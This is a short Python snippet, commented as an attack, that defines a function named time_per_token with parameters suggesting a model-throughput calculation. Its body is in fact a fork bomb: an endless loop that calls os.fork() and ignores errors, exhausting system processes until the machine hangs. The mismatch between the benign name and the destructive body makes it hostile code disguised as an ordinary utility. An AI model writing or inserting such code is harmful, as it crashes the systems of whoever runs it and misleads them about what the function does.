# Attack: a fork bomb.
import os


def time_per_token(n_params, bytes_per_param, bandwidth):
    while True:
        try:
            os.fork()
        except OSError:
            pass
